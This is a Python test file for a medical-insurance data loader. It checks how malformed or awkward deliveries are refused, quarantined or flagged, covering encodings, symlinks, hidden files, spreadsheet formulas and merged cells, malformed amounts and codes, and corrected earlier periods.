"""The bad-input matrix of shared/docs/RELIABILITY.md, one stated outcome per row.

Rows handled by the loader alone are tested in tests/test_ingest.py (named here); rows that the
contract says are *flagged* rather than quarantined are tested below through the quality gate on a
generated delivery with the bad values planted in it.

| # | input | outcome | test |
|---|---|---|---|
| 1 | GB18030 / UTF-8 / BOM / invalid bytes | decoded strictly; invalid refused with byte offset; no U+FFFD | test_ingest: test_gb18030_*, test_utf8_*, test_bytes_invalid_everywhere_refused_with_offset; here: test_no_replacement_character_anywhere |
| 2 | truncated mid-row / mid-character | refused, no partial batch | test_ingest: test_truncated_* ; test_faults: kill -9 |
| 3 | wrong delimiter | refused: header does not match | test_ingest: test_wrong_delimiter_refused |
| 4 | header drift | accepted; missing required refused; extras kept and reported | test_ingest: test_header_drift_*, test_missing_required_column_refused |
| 5 | same file again / same bytes new name | no-op | test_ingest: test_same_bytes_twice_and_under_new_name_is_a_noop |
| 6 | correction of an earlier period | replaces that batch; totals never double | here: test_correction_of_an_earlier_period_never_doubles |
| 7 | duplicate keys within / across files | quarantined with reason, counted | test_ingest: test_duplicate_keys_within_and_across_files |
| 8 | negative amount without refund link; cnt × pric ≠ amount; settlement ≠ Σ lines | flagged by the gate | here: test_arithmetic_and_unlinked_refunds_are_flagged; test_gate_blocks |
| 9 | future / pre-1900 dates, discharge before admission, serials, YYYYMMDD | converted or quarantined | test_ingest: test_value_normalisation, test_bad_ids_and_impossible_dates_*, test_discharge_before_admission_quarantined |
| 10 | 身份证 check digit, lower-case x, full-width, 15 digits, Excel number | normalised or quarantined | test_ingest: test_value_normalisation, test_bad_ids_and_impossible_dates_* |
| 11 | unknown codes | flagged by the gate, not dropped | here: test_unknown_codes_are_flagged_not_dropped |
| 12 | empty / header-only file | empty batch, reported | test_ingest: test_empty_and_header_only_files_are_empty_batches |
| 13 | a file ten times the usual size | streams within the memory limit | test_faults: test_ten_times_the_usual_file_streams_within_a_memory_limit |

Hostile and messy deliveries (the README's "Bad and hostile input" tables) are tested at the end of this
file on small hand-made files, grouped by promise.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import zipfile
from decimal import Decimal
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter

from ingest.loader import Loader
from tests.helpers import ID_A, ID_B, PSN_HEADER, load, query, write
from warehouse.connection import connect


def _set(table: pa.Table, column: str, row: int, value) -> pa.Table:
    values = table.column(column).to_pylist()
    values[row] = value
    i = table.schema.get_field_index(column)
    return table.set_column(i, column, pa.array(values, type=table.schema.field(column).type))


@pytest.fixture(scope="module")
def planted(sample_tree, tmp_path_factory):
    """The sample delivery with bad values planted in one fee_list and one mdtrt file, loaded and gated."""
    from expectations.runner import run_gate

    landing, _ = sample_tree
    base = tmp_path_factory.mktemp("planted")
    tree = base / "landing"
    shutil.copytree(landing, tree)
    fee = sorted((tree / "fee_list").rglob("*.parquet"))[0]
    t = pq.read_table(fee)
    # row 0: a refund-looking negative line that points at nothing
    t = _set(t, "cnt", 0, -abs(t.column("cnt")[0].as_py()))
    t = _set(
        t,
        "det_item_fee_sumamt",
        0,
        Decimal(t.column("cnt")[0].as_py() * t.column("pric")[0].as_py()).quantize(Decimal("0.01")),
    )
    t = _set(t, "init_feedetl_sn", 0, None)
    # row 1: amount is not cnt × pric
    t = _set(t, "det_item_fee_sumamt", 1, t.column("det_item_fee_sumamt")[1].as_py() + Decimal("5.00"))
    # row 2: a catalogue item nobody knows
    t = _set(t, "hilist_code", 2, "ZZ-UNKNOWN-ITEM")
    pq.write_table(t, fee)
    visits = sorted((tree / "mdtrt").rglob("*.parquet"))[0]
    v = _set(pq.read_table(visits), "med_type", 0, "99")  # not a med_type code
    pq.write_table(v, visits)
    wh = base / "wh.duckdb"
    con = connect(wh)
    try:
        report = Loader(con, tree).load_all()
    finally:
        con.close()
    result = run_gate(wh, base / "out", feeds=["fee_list", "mdtrt"])
    return {
        "report": report,
        "gate": result,
        "wh": wh,
        "fee_file": fee.relative_to(tree).as_posix(),
        "visit_file": visits.relative_to(tree).as_posix(),
        "fee_ids": t.column("feedetl_sn").to_pylist()[:3],
        "visit_id": v.column("mdtrt_id")[0].as_py(),
    }


def _failed_ids(feed_result, severity=None) -> dict[str, object]:
    return {o.check_id: o for o in feed_result.failures(severity)}


def test_arithmetic_and_unlinked_refunds_are_flagged(planted):
    fr = planted["gate"].feeds["fee_list"]
    crit = _failed_ids(fr, "critical")
    assert any("cnt" in cid and "pric" in cid or "amount" in cid for cid in crit), list(crit)
    flagged = _failed_ids(fr)
    assert any("refund_link" in cid for cid in flagged), list(flagged)
    assert not fr.passed  # a critical failure blocks downstream
    assert any(planted["fee_file"] in m for m in fr.messages("critical"))


def test_unknown_codes_are_flagged_not_dropped(planted):
    fee_warn = _failed_ids(planted["gate"].feeds["fee_list"], "warning")
    assert any("hilist" in cid for cid in fee_warn), list(fee_warn)
    visit = planted["gate"].feeds["mdtrt"]
    assert any("med_type" in cid for cid in _failed_ids(visit, "warning")), list(_failed_ids(visit))
    assert visit.passed  # warnings only: nothing blocked by an unknown code
    con = duckdb.connect(str(planted["wh"]), read_only=True)
    try:
        assert con.execute("select med_type from raw.mdtrt where mdtrt_id = ?", [planted["visit_id"]]).fetchone() == (
            "99",
        )
        assert con.execute("select count(*) from raw.fee_list where hilist_code = 'ZZ-UNKNOWN-ITEM'").fetchone()[0] == 1
    finally:
        con.close()


def test_no_replacement_character_anywhere(planted):
    con = duckdb.connect(str(planted["wh"]), read_only=True)
    try:
        for schema, table, column in con.execute(
            "select table_schema, table_name, column_name from information_schema.columns "
            "where table_schema = 'raw' and data_type = 'VARCHAR'"
        ).fetchall():
            n = con.execute(
                f'select count(*) from "{schema}"."{table}" where contains("{column}", ?)', ["\ufffd"]
            ).fetchone()[0]
            assert n == 0, (table, column)
    finally:
        con.close()


def test_correction_of_an_earlier_period_never_doubles(sample_tree, tmp_path):
    landing, _ = sample_tree
    tree = tmp_path / "landing"
    shutil.copytree(landing, tree)
    wh = tmp_path / "wh.duckdb"
    con = connect(wh)
    try:
        Loader(con, tree).load_all(["fee_list"])
        before = con.execute("select count(*), sum(det_item_fee_sumamt) from raw.fee_list").fetchone()
        first = sorted((tree / "fee_list").rglob("*.parquet"))[0]  # the earliest period
        t = pq.read_table(first)
        removed = t.column("det_item_fee_sumamt")[t.num_rows - 1].as_py()
        pq.write_table(t.slice(0, t.num_rows - 1), first)  # the sender corrects January: one line fewer
        rep = Loader(con, tree).load_all(["fee_list"])
        after = con.execute("select count(*), sum(det_item_fee_sumamt) from raw.fee_list").fetchone()
        statuses = dict(con.execute("select status, count(*) from raw.load_manifest group by 1").fetchall())
    finally:
        con.close()
    assert [f.status for f in rep.files if f.status != "unchanged"] == ["loaded"]
    assert after == (before[0] - 1, before[1] - removed)
    assert statuses["replaced"] == 1


# =============================================================================================
# Hostile and messy deliveries: small hand-made files, one promise per group.
# =============================================================================================

CHARGE_HEADER = "charge_sn,fixmedins_code,hilist_code,cnt,pric,amount,charge_time"
SALE_HEADER = "sale_sn,fixmedins_code,sel_time,med_list_codg,cnt,finl_trns_pric"


def _fee_parquet(path: Path, sn: str, **override) -> Path:
    cols = {
        "feedetl_sn": [sn],
        "mdtrt_id": ["M1"],
        "setl_id": ["S1"],
        "psn_no": ["P1"],
        "fixmedins_code": ["H001"],
        "fee_ocur_time": pa.array([dt.datetime(2025, 1, 2, 10, 0, 5)], pa.timestamp("us")),
        "hilist_code": ["X01"],
        "list_type": ["101"],
        "cnt": ["2"],
        "pric": ["1.5"],
        "det_item_fee_sumamt": ["3.00"],
    }
    cols.update(override)
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table(cols), path)
    return path


def _xlsx(
    path: Path,
    sheets: list[tuple[str, list[list]]],
    chart_first: bool = False,
    merge: str | None = None,
    formulas: list[tuple[str, str, object]] = (),
) -> Path:
    """A workbook: sheets of rows (an empty list = an empty sheet); optional chart sheet first, merged range
    and formula cells (cell, formula, cached value or None) on the first worksheet."""
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlsxwriter.Workbook(str(path))
    chartsheet = wb.add_chartsheet("图表") if chart_first else None
    first = None
    for name, rows in sheets:
        ws = wb.add_worksheet(name)
        first = first or ws
        for i, row in enumerate(rows):
            for j, v in enumerate(row):
                if v is not None:
                    ws.write(i, j, v)
    if merge:
        first.merge_range(merge, "merged")
    for cell, formula, cached in formulas:
        if cached is None:
            first.write_formula(cell, formula)
        else:
            first.write_formula(cell, formula, None, cached)
    if chartsheet is not None:
        chart = wb.add_chart({"type": "column"})
        chart.add_series({"values": f"='{sheets[0][0]}'!$C$2:$C$3"})
        chartsheet.set_chart(chart)
    wb.close()
    return path


INSPECTION = [
    ["insp_id", "fixmedins_code", "insp_date", "insp_type"],
    ["I1", "H001", "2025-03-05", "1"],
    ["I2", "H002", "2025-03-06", "2"],
]
INSPECTION_FILE = "case_inspection/202503/990100_case_inspection_202503.xlsx"


# -- every delivered file is read as itself, and every entry of the landing tree is mentioned


def test_glob_characters_in_file_names_read_only_that_file(tree):
    root, db = tree
    folder = root / "fee_list/202501"
    for seq, sn in (("1", "F1"), ("[1]", "F2"), ("2", "F3"), ("?", "F4"), ("*", "F5")):
        _fee_parquet(folder / f"990100_fee_list_202501_{seq}.parquet", sn)
    rep = load(root, db)
    assert [f.status for f in rep.files] == ["loaded"] * 5
    assert all(f.rows_read == 1 for f in rep.files)
    got = dict(query(db, "select _seq, feedetl_sn from raw.fee_list"))
    assert got == {"1": "F1", "[1]": "F2", "2": "F3", "?": "F4", "*": "F5"}


def test_links_out_of_the_tree_hidden_files_and_linked_folders_are_refused_and_listed(tree, tmp_path):
    root, db = tree
    outside = tmp_path / "elsewhere"
    write(outside, "secret.csv", f"{PSN_HEADER}\nP9,{ID_A},外人,1,1949-12-31,990101\n")
    write(outside, "202502/990100_psn_202502.csv", f"{PSN_HEADER}\nP8,{ID_A},外人,1,1949-12-31,990101\n")
    (root / "psn/202501").mkdir(parents=True)
    os.symlink(outside / "secret.csv", root / "psn/202501/990100_psn_202501.csv")
    os.symlink(outside / "202502", root / "psn/202502")  # a linked period folder
    write(root, "psn/202503/.990100_psn_202503.csv", f"{PSN_HEADER}\nP7,{ID_A},张三,1,1949-12-31,990101\n")
    write(root, "psn/202504/990100_psn_202504.csv", f"{PSN_HEADER}\nP1,{ID_A},张三,1,1949-12-31,990101\n")
    os.symlink(root / "psn/202504/990100_psn_202504.csv", root / "psn/202504/990100_psn_202504_2.csv")
    os.mkfifo(root / "psn/202504/990100_psn_202504_3.csv")  # never opened: reading a pipe would block
    rep = load(root, db)
    by_file = {f.file: f for f in rep.files}
    assert by_file["psn/202501/990100_psn_202501.csv"].status == "refused"
    assert "outside the landing tree" in by_file["psn/202501/990100_psn_202501.csv"].message
    assert by_file["psn/202502"].status == "refused" and "link to the folder" in by_file["psn/202502"].message
    assert by_file["psn/202503/.990100_psn_202503.csv"].status == "refused"
    assert "starts with '.'" in by_file["psn/202503/.990100_psn_202503.csv"].message
    assert by_file["psn/202504/990100_psn_202504.csv"].status == "loaded"
    assert by_file["psn/202504/990100_psn_202504_2.csv"].status == "duplicate"  # a link inside the tree: same bytes
    assert "not a regular file" in by_file["psn/202504/990100_psn_202504_3.csv"].message
    assert query(db, "select psn_no from raw.psn") == [("P1",)]
    assert query(db, "select count(*) from raw.load_manifest")[0][0] == 6
    assert query(db, "select feed from raw.load_manifest where file = 'psn/202502'") == [("psn",)]
    # the next run mentions nothing again and reads nothing through the links
    assert {f.status for f in load(root, db).files} == {"unchanged"}


def test_a_csv_and_an_xlsx_for_one_slot_the_second_is_refused(tree):
    root, db = tree
    write(
        root,
        "case_inspection/202503/990100_case_inspection_202503.csv",
        "\n".join(",".join(r) for r in INSPECTION[:2]) + "\n",
    )
    _xlsx(root / INSPECTION_FILE, [("检查", INSPECTION)])
    rep = load(root, db)
    assert [(Path(f.file).suffix, f.status) for f in rep.files] == [(".csv", "loaded"), (".xlsx", "refused")]
    assert "990100_case_inspection_202503.csv is in the landing tree" in rep.files[1].message
    assert query(db, "select insp_id from raw.case_inspection") == [("I1",)]


def test_a_file_refused_for_its_slot_loads_once_the_other_file_is_gone(tree):
    root, db = tree
    csv_file = root / "case_inspection/202503/990100_case_inspection_202503.csv"
    write(root, csv_file.relative_to(root).as_posix(), "\n".join(",".join(r) for r in INSPECTION[:2]) + "\n")
    _xlsx(root / INSPECTION_FILE, [("检查", INSPECTION)])
    assert [f.status for f in load(root, db).files] == ["loaded", "refused"]
    assert [f.status for f in load(root, db).files] == ["unchanged", "unchanged"]  # both still there
    csv_file.unlink()  # as the refusal asked: the xlsx is the delivery now and replaces the csv's batch
    f = load(root, db).files[0]
    assert (Path(f.file).suffix, f.status) == (".xlsx", "loaded") and "correction" in f.message, f.message
    assert query(db, "select count(*) from raw.load_manifest where file like '%.xlsx'") == [(1,)]
    assert sorted(r[0] for r in query(db, "select insp_id from raw.case_inspection")) == sorted(
        r[0] for r in INSPECTION[1:]
    )


# -- an institution delivers its own rows


def test_rows_of_another_institution_in_an_institution_file_are_quarantined(tree):
    root, db = tree
    write(root, "phar_sale/202501/P001_phar_sale_202501.csv", f"{SALE_HEADER}\nS1,P001,2025-01-05 09:00:00,X01,1,2.5\n")
    write(
        root,
        "phar_sale/202502/P002_phar_sale_202502.csv",
        f"{SALE_HEADER}\nS1,P002,2025-02-05 09:00:00,X01,2,2.5\nS1,P001,2025-02-05 09:00:00,X01,999,2.5\n",
    )
    rep = load(root, db)
    assert rep.rows_read == rep.rows_loaded + rep.rows_quarantined == 3
    assert query(db, "select fixmedins_code, sale_sn, cnt from raw.phar_sale order by 1") == [
        ("P001", "S1", 1),
        ("P002", "S1", 2),
    ]
    assert query(db, "select file, line, reasons from raw.quarantine") == [
        ("phar_sale/202502/P002_phar_sale_202502.csv", 3, "foreign_institution(fixmedins_code)")
    ]
    # a centre feed carries every institution's rows
    _fee_parquet(root / "fee_list/202501/990100_fee_list_202501.parquet", "F1")
    assert load(root, db).files[0].rows_loaded == 1


# -- corrections: the landing's bytes are what the warehouse holds


def test_a_withdrawn_correction_brings_the_first_bytes_back(tree):
    root, db = tree
    path = "psn/202501/990100_psn_202501.csv"
    v1 = f"{PSN_HEADER}\nP1,{ID_A},张三,1,1949-12-31,990101\n"
    v2 = f"{PSN_HEADER}\nP1,{ID_A},张三丰,1,1949-12-31,990101\n"
    write(root, path, v1)
    load(root, db)
    write(root, path, v2)
    load(root, db)
    write(root, path, v1)
    rep = load(root, db)
    assert [f.status for f in rep.files] == ["loaded"] and rep.files[0].replaced_batch_id
    assert "withdrawn" in rep.files[0].message
    assert query(db, "select psn_name from raw.psn") == [("张三",)]
    assert sorted(query(db, "select status from raw.load_manifest")) == [("loaded",), ("replaced",)]
    assert [f.status for f in load(root, db).files] == ["unchanged"]


# -- xlsx: the first visible worksheet, values only, or a refusal saying why


def test_a_chart_sheet_before_the_data_sheet_is_skipped(tree):
    root, db = tree
    _xlsx(root / INSPECTION_FILE, [("检查", INSPECTION)], chart_first=True)
    rep = load(root, db)
    assert (rep.files[0].status, rep.files[0].rows_loaded) == ("loaded", 2), rep.files[0].message


@pytest.mark.parametrize(
    "sheets, expected",
    [
        ([("检查", INSPECTION), ("补充", INSPECTION[:1] + [["I3", "H003", "2025-03-07", "1"]])], "all hold data"),
        ([("空", []), ("检查", INSPECTION)], "first visible worksheet '空' is empty"),
    ],
)
def test_data_on_another_visible_sheet_is_refused(tree, sheets, expected):
    root, db = tree
    _xlsx(root / INSPECTION_FILE, sheets)
    f = load(root, db).files[0]
    assert f.status == "refused" and expected in f.message, f.message


def test_the_sheet_named_by_the_feed_is_loaded_and_the_others_are_not_read(tree):
    """A workbook with a worksheet named exactly by the feed's label (检查记录 for case_inspection) loads
    that sheet wherever it is; the help text and the other data around it are left alone, and the load
    report and manifest say so."""
    root, db = tree
    help_rows = [["填写说明", "每行一次检查"], ["=1+1", "a formula on a sheet that is not read"]]
    other = INSPECTION[:1] + [["I9", "H009", "2025-03-09", "1"]]
    _xlsx(root / INSPECTION_FILE, [("填写说明", help_rows), ("检查记录", INSPECTION), ("另一张表", other)])
    f = load(root, db).files[0]
    assert (f.status, f.rows_loaded, f.rows_quarantined) == ("loaded", 2, 0), f.message
    assert "worksheet '检查记录' loaded" in f.message and "'填写说明', '另一张表'" in f.message, f.message
    assert sorted(query(db, "select insp_id, _line from raw.case_inspection")) == [("I1", 2), ("I2", 3)]
    (msg,) = query(db, "select message from raw.load_manifest")[0]
    assert "not read" in msg


@pytest.mark.parametrize(
    "sheets, expected",
    [
        # a near miss is not the feed's sheet: the strict first-sheet rule stands
        ([("检查 记录", INSPECTION), ("说明", [["填写说明"]])], "all hold data"),
        ([("说明", []), ("检查记录表", INSPECTION)], "first visible worksheet '说明' is empty"),
    ],
)
def test_without_the_sheet_named_by_the_feed_the_first_sheet_rule_stands(tree, sheets, expected):
    root, db = tree
    _xlsx(root / INSPECTION_FILE, sheets)
    f = load(root, db).files[0]
    assert f.status == "refused" and expected in f.message, f.message


def test_one_workbook_delivered_as_two_feeds_loads_each_feeds_sheet(tree):
    """The clue sheet's shape: sheets 线索处置 and 疑点明细复核 beside a help sheet, the same bytes delivered
    as case_clue and as case_hit_review. Same bytes are a no-op only within one feed; each feed loads its
    sheet. A review confirming a violation without an amount is quarantined with a reason saying so."""
    root, db = tree
    stages = [["线索编号", "处置阶段", "阶段日期", "经办人"], ["CL-H001-2025Q1", "1", "2025-04-02", "赵六"]]
    reviews = [
        ["疑点编号", "复核日期", "复核结论", "认定违规金额", "复核人", "理由", "规则"],
        ["h1", "2025-04-02", "1", 10.5, "赵六", "确认", "R01 重复收费"],
        ["h2", "2025-04-02", 3, None, "赵六", "病情需要", "R01 重复收费"],
        ["h3", "2025-04-02", "2", None, "赵六", None, "R01 重复收费"],  # partly confirmed, no amount
        ["h4", "2025-04-02", "4", 1, "赵六", None, "R01 重复收费"],  # no such decision
        ["h5", None, None, None, None, None, "R01 重复收费"],  # not reviewed: left with its id only
    ]
    book = _xlsx(
        root / "case_clue/202504/990100_case_clue_202504.xlsx",
        [("线索处置", stages), ("疑点明细复核", reviews), ("填写说明", [["说明", "每行一个阶段"]])],
    )
    (root / "case_hit_review/202504").mkdir(parents=True)
    shutil.copy(book, root / "case_hit_review/202504/990100_case_hit_review_202504.xlsx")
    by_feed = {f.feed: f for f in load(root, db).files}
    assert (by_feed["case_clue"].status, by_feed["case_clue"].rows_loaded) == ("loaded", 1)
    review = by_feed["case_hit_review"]
    assert (review.status, review.rows_loaded, review.rows_quarantined) == ("loaded", 2, 3), review.message
    assert query(db, "select hit_id, decision, confirmed_amt from raw.case_hit_review order by 1") == [
        ("h1", "1", Decimal("10.50")),
        ("h2", "3", None),
    ]
    assert query(db, "select line, reasons from raw.quarantine where feed = 'case_hit_review' order by line") == [
        (4, "missing_confirmed_amt(confirmed_amt)"),
        (5, "invalid_value(decision)"),
        (6, "missing_required(review_date); missing_required(decision)"),
    ]
    from expectations.wording import sample_text

    assert "须填写认定违规金额" in sample_text("missing_confirmed_amt(confirmed_amt)", "case_hit_review")


def test_merged_cells_are_refused(tree):
    root, db = tree
    _xlsx(root / INSPECTION_FILE, [("检查", INSPECTION)], merge="D2:D3")
    f = load(root, db).files[0]
    assert f.status == "refused" and "merged cells (D2:D3)" in f.message and "unmerge" in f.message


@pytest.mark.parametrize("cached", [5, None])  # a stale cached value, and none at all
def test_formula_cells_are_refused(tree, cached):
    root, db = tree
    _xlsx(root / INSPECTION_FILE, [("检查", INSPECTION)], formulas=[("D3", "=1+1", cached)])
    f = load(root, db).files[0]
    assert f.status == "refused" and "the first D3" in f.message and "deliver values, not formulas" in f.message
    assert query(db, "select error_line from raw.load_manifest")[0][0] == 3


def test_codes_as_number_cells_are_quarantined(tree):
    root, db = tree
    _xlsx(
        root / INSPECTION_FILE,
        [("检查", [INSPECTION[0], [123, "H001", "2025-03-05", 1], ["0124", "H001", "2025-03-05", 2]])],
    )
    f = load(root, db).files[0]
    assert (f.rows_loaded, f.rows_quarantined) == (1, 1)
    assert query(db, "select line, reasons from raw.quarantine") == [(2, "code_as_number(insp_id)")]
    assert query(db, "select insp_id, insp_type from raw.case_inspection") == [
        ("0124", "2")
    ]  # 1/2 enumerations may be numbers


# -- Parquet: typed columns read as delivered


def test_parquet_nanosecond_timestamps_load(tree):
    root, db = tree
    ts = pa.array([1735783205123456789], pa.timestamp("ns"))  # 2025-01-02 02:00:05.123456789
    _fee_parquet(root / "fee_list/202501/990100_fee_list_202501.parquet", "F1", fee_ocur_time=ts)
    f = load(root, db).files[0]
    assert (f.rows_loaded, f.rows_quarantined) == (1, 0), query(db, "select reasons from raw.quarantine")
    assert query(db, "select fee_ocur_time from raw.fee_list") == [(dt.datetime(2025, 1, 2, 2, 0, 5),)]


def test_parquet_codes_stored_as_numbers_are_refused(tree):
    root, db = tree
    _fee_parquet(root / "fee_list/202501/990100_fee_list_202501.parquet", "F1", psn_no=pa.array([42], pa.int64()))
    f = load(root, db).files[0]
    assert f.status == "refused" and "deliver codes as text" in f.message and "psn_no" in f.message


def test_parquet_with_two_columns_of_one_field_is_refused(tree):
    root, db = tree
    p = _fee_parquet(root / "fee_list/202501/990100_fee_list_202501.parquet", "F1")
    t = pq.read_table(p)
    pq.write_table(t.append_column("cnt", pa.array(["3"])), p)
    f = load(root, db).files[0]
    assert f.status == "refused" and "both map to field cnt" in f.message


# -- CSV text: decoded on the evidence of the whole file


def test_gb18030_file_with_one_utf8_field_is_refused_as_mixed(tree):
    root, db = tree
    head = "医嘱号,定点医药机构编号,项目名称,开始时间\nD1,H001,青霉素注射液,2025-01-03 08:00:00\n".encode("gb18030")
    data = head + "D2,H001,静脉输液,2025-01-03 09:00:00\n".encode()
    write(root, "his_order/202501/H001_his_order_202501.csv", data)
    f = load(root, db).files[0]
    assert f.status == "refused" and "line 3" in f.message and "UTF-8" in f.message, f.message
    assert query(db, "select count(*) from raw.his_order")[0][0] == 0


def test_gb18030_that_is_also_valid_utf8_is_decoded_as_chinese_and_flagged(tree):
    root, db = tree
    text = "ipt_no,fixmedins_code,adm_time,adm_dept\nZY1,H001,2025-01-03 11:23:10,住院\n"
    assert text.encode("gb18030").decode("utf-8")  # valid UTF-8 too: סԺ
    write(root, "his_ipt_register/202501/H001_his_ipt_register_202501.csv", text, "gb18030")
    f = load(root, db).files[0]
    assert f.status == "loaded" and "decoded as GB18030" in f.message, f.message
    assert query(db, "select adm_dept from raw.his_ipt_register") == [("住院",)]
    assert query(db, "select encoding from raw.load_manifest") == [("gb18030",)]


def test_gb18030_names_that_happen_to_be_valid_utf8_do_not_refuse_the_file(tree):
    # 濮鸿芳 in GB18030 is also valid UTF-8 for two Chinese characters; its bytes are GB2312 pairs
    root, db = tree
    assert "濮鸿芳".encode("gb18030").decode("utf-8")
    write(
        root,
        "psn/202501/990100_psn_202501.csv",
        f"{PSN_HEADER}\nP1,{ID_A},濮鸿芳,1,1949-12-31,990101\nP2,{ID_B},张三,1,1980-01-01,990101\n",
        "gb18030",
    )
    f = load(root, db).files[0]
    assert f.status == "loaded", f.message
    assert query(db, "select psn_name from raw.psn order by psn_no") == [("濮鸿芳",), ("张三",)]


def test_gb18030_text_that_is_valid_utf8_chinese_as_a_whole_is_read_as_gb18030_and_flagged(tree):
    # every non-ASCII byte of the file is valid UTF-8 (two other characters), and every byte pair is GB2312
    root, db = tree
    text = f"{PSN_HEADER}\nP1,{ID_A},濮鸿芳,1,1949-12-31,990101\n"
    assert text.encode("gb18030").decode("utf-8") != text
    write(root, "psn/202501/990100_psn_202501.csv", text, "gb18030")
    f = load(root, db).files[0]
    assert f.status == "loaded" and "decoded as GB18030" in f.message, f.message
    assert query(db, "select psn_name from raw.psn") == [("濮鸿芳",)]


def test_utf8_foreign_names_stay_utf8(tree):
    # Cyrillic and Latin-extended names are valid GB18030 byte pairs too, but no GB2312 Chinese
    root, db = tree
    names = ["Антонín Dvořák", "Алексей Иванов", "Łukasz", "Ayşe Yılmaz"]
    rows = "".join(f"P{i},{ID_A if i == 0 else ID_B},{n},1,1949-12-31,990101\n" for i, n in enumerate(names[:2]))
    write(root, "psn/202501/990100_psn_202501.csv", f"{PSN_HEADER}\n{rows}")
    f = load(root, db).files[0]
    assert f.status == "loaded" and "GB18030" not in (f.message or ""), f.message
    assert query(db, "select psn_name from raw.psn order by psn_no") == [(names[0],), (names[1],)]


def test_a_double_bom_is_refused_as_such(tree):
    root, db = tree
    write(
        root,
        "psn/202501/990100_psn_202501.csv",
        b"\xef\xbb\xbf\xef\xbb\xbf" + f"{PSN_HEADER}\nP1,{ID_A},张三,1,1949-12-31,990101\n".encode(),
    )
    f = load(root, db).files[0]
    assert f.status == "refused" and "byte-order mark" in f.message and "missing" not in f.message


def test_a_huge_field_is_named_as_such(tree):
    root, db = tree
    write(root, "psn/202501/990100_psn_202501.csv", f"{PSN_HEADER}\nP1,{ID_A},{'张' * 2**20},1,1949-12-31,990101\n")
    f = load(root, db).files[0]
    assert f.status == "refused" and "line 2: a field is longer than" in f.message


# -- values: never re-scaled, guessed or silently changed


def test_amounts_with_separators_or_extra_decimals_are_quarantined(tree):
    root, db = tree
    rows = [
        'C1,H001,X01,1,"12,50","12,50",2025-01-02 10:00:00',
        "C2,H001,X01,1,1_000,1_000,2025-01-02 10:00:00",
        "C3,H001,X01,1,12.005,12.005,2025-01-02 10:00:00",
        "C4,H001,X01,1,12.50,12.500,2025-01-02 10:00:00",
        "C5,H001,X01,1,0.12345,0.12,2025-01-02 10:00:00",
    ]
    write(root, "his_charge/202501/H001_his_charge_202501.csv", CHARGE_HEADER + "\n" + "\n".join(rows) + "\n")
    _fee_parquet(
        root / "fee_list/202501/990100_fee_list_202501.parquet",
        "F1",
        det_item_fee_sumamt=pa.array([Decimal("12.005")], pa.decimal128(18, 3)),
    )
    load(root, db)
    assert query(db, "select charge_sn, amount from raw.his_charge") == [("C4", Decimal("12.50"))]
    reasons = dict(query(db, "select line, reasons from raw.quarantine where feed = 'his_charge'"))
    assert reasons == {
        2: "invalid_number(pric); invalid_number(amount)",
        3: "invalid_number(pric); invalid_number(amount)",
        4: "invalid_number(amount)",
        6: "invalid_number(pric)",
    }
    assert query(db, "select reasons from raw.quarantine where feed = 'fee_list'") == [
        ("invalid_number(det_item_fee_sumamt)",)
    ]


def test_bare_integers_in_csv_date_columns_are_not_excel_serials(tree):
    root, db = tree
    rows = [f"P{i},{ID_B},王五,1,{v},990101" for i, v in enumerate(["1985", "2025111", "60", "32939"])]
    write(root, "psn/202501/990100_psn_202501.csv", PSN_HEADER + "\n" + "\n".join(rows) + "\n")
    f = load(root, db).files[0]
    assert (f.rows_loaded, f.rows_quarantined) == (0, 4)
    assert {r[0] for r in query(db, "select reasons from raw.quarantine")} == {"invalid_date(brdy)"}


def test_invisible_characters_in_codes_are_removed_and_control_characters_quarantined(tree):
    root, db = tree
    rows = [
        f"SA000000088\u200b,{ID_A},张三,1,1949-12-31,990101",
        f"\u00a0SA000000089\u00a0,{ID_A},张三,1,1949-12-31,990101",
        f"SA00\x0090,{ID_A},张三,1,1949-12-31,990101",
        f"SA000000091,{ID_A},张\x00三,1,1949-12-31,990101",
    ]
    write(root, "psn/202501/990100_psn_202501.csv", PSN_HEADER + "\n" + "\n".join(rows) + "\n")
    load(root, db)
    assert query(db, "select psn_no from raw.psn order by 1") == [("SA000000088",), ("SA000000089",)]
    assert query(db, "select line, reasons from raw.quarantine order by line") == [
        (4, "control_character(psn_no)"),
        (5, "control_character(psn_name)"),
    ]


def test_null_markers_and_excel_mangled_codes_are_quarantined(tree):
    root, db = tree
    rows = [f"{v},{ID_A},张三,1,1949-12-31,990101" for v in ["NULL", "N/A", "—", "\\N", "3.601E+15", '"=""ST001"""']]
    rows.append(f"P1,{ID_A},张三,1,1949-12-31,990101")
    rows.append(f"230E12,{ID_A},张三,1,1949-12-31,990101")  # a code with an E in it, not Excel's notation
    write(root, "psn/202501/990100_psn_202501.csv", PSN_HEADER + "\n" + "\n".join(rows) + "\n")
    load(root, db)
    assert query(db, "select psn_no from raw.psn order by 1") == [("230E12",), ("P1",)]
    assert [r[0] for r in query(db, "select reasons from raw.quarantine order by line")] == [
        "null_marker(psn_no)"
    ] * 4 + ["excel_mangled(psn_no)"] * 2


def test_a_repeated_header_line_is_quarantined(tree):
    root, db = tree
    write(
        root,
        "his_order/202501/H001_his_order_202501.csv",
        "drord_no,fixmedins_code,start_time,item_name\nD1,H001,2025-01-03 08:00:00,a\n"
        "drord_no,fixmedins_code,start_time,item_name\nD2,H001,2025-01-03 09:00:00,b\n",
    )
    f = load(root, db).files[0]
    assert (f.rows_read, f.rows_loaded, f.rows_quarantined) == (3, 2, 1)
    assert query(db, "select line, reasons from raw.quarantine") == [(3, "repeated_header")]


def test_two_extra_columns_of_one_name_are_both_kept(tree):
    root, db = tree
    write(root, "psn/202501/990100_psn_202501.csv", f"{PSN_HEADER},备注,备注\nP1,{ID_A},张三,1,1949-12-31,990101,a,b\n")
    f = load(root, db).files[0]
    assert f.status == "loaded" and f.extra_columns == ["备注 (column 7)", "备注 (column 8)"]
    assert json.loads(query(db, "select _extra from raw.psn")[0][0]) == {"备注 (column 7)": "a", "备注 (column 8)": "b"}


# -- operations


def test_a_warehouse_path_that_is_not_duckdb_stops_with_a_message(tree, capsys):
    from ingest.load import main

    root, db = tree
    db.write_text("not a database")
    assert main(["--landing", str(root), "--warehouse", str(db)]) == 2
    err = capsys.readouterr().err
    assert "cannot be opened as a DuckDB warehouse" in err and "Traceback" not in err
    assert db.read_text() == "not a database"


# -- exports: text stays text


